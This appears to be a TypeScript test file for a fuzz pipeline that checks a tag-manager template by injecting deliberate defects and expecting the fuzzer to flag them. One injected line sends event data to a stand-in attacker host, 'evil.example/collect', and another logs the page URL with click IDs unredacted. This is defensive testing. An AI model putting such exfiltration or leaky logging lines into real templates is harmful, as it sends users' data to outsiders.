// The fuzz pipeline must catch real faults in a real execution, not only in hand-made traces: each
// case here is the built template with one deliberate defect added to its code, and the fuzzer has
// to report that defect within a few hundred runs.
import fc from 'fast-check';
import { builtTemplate } from '../support/built-template';
import { emptyStats, PropertyViolation, templateProperty } from './fuzz-runner';

function withPrefix(prefix: string) {
  const tpl = builtTemplate();
  return { ...tpl, code: `${prefix}\n${tpl.code}` };
}

const defects: [string, string, RegExp][] = [
  [
    'calls gtmOnSuccess before doing its work (two callbacks)',
    'data.gtmOnSuccess();',
    /^expected exactly one callback, got 2/,
  ],
  [
    'logs page_location as it is (click ID in the log)',
    "require('logToConsole')(require('getAllEventData')().page_location);",
    /^log line shows an identifier unredacted \(Clk/,
  ],
  [
    'also sends the event to a URL outside its prefixes',
    "require('sendHttpRequest')('https://evil.example/collect', function () {}, {});",
    /^error: Tag failed "send_http" permission check: Access to URL "https:\/\/evil\.example\/collect" is prohibited/,
  ],
];

test.each(defects)(
  'a template that %s fails the fuzz property',
  async (_name, prefix, expected) => {
    const details = await fc.check(templateProperty(emptyStats(), undefined, withPrefix(prefix)), {
      seed: 1,
      numRuns: 300,
      endOnFailure: true,
    });
    expect(details.failed).toBe(true);
    const error = details.errorInstance;
    expect(error).toBeInstanceOf(PropertyViolation);
    expect((error as PropertyViolation).violations.some((v) => expected.test(v))).toBe(true);
  },
);
